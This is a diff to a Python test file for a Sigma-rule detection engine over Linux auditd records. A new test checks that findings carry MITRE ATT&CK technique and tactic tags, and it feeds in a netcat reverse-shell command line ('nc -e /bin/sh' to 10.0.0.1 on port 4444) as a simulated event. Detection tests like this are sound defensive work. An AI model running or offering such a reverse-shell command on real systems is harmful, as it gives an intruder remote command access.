@@ -302,3 +302,11 @@ def test_an_ordinary_syscall_record_makes_no_sigmahq_auditd_rule_a_candidate() -
     assert index.evaluations == 0
     dropped = AuditRecord(type="SYSCALL", fields={**fields, "exe": "/home/bob/public_html/x"})  # a wildcard
     assert len(index.match(dropped)) == 1  # still found: lnx_auditd_susp_exe_folders
+
+
+def test_a_finding_carries_the_attack_techniques_and_tactics_of_its_rule_tags(start) -> None:
+    engine, ctx = start(**{"a.yml": rule("sel:\n  Image|endswith: /nc\ncondition: sel")})
+    engine.on_event(exec_event("/usr/bin/nc", ("nc", "-e", "/bin/sh", "10.0.0.1", "4444")))
+    (finding,) = ctx.findings
+    assert finding.fields["techniques"] == ("T1059.004",)
+    assert finding.fields["tactics"] == ("execution",)
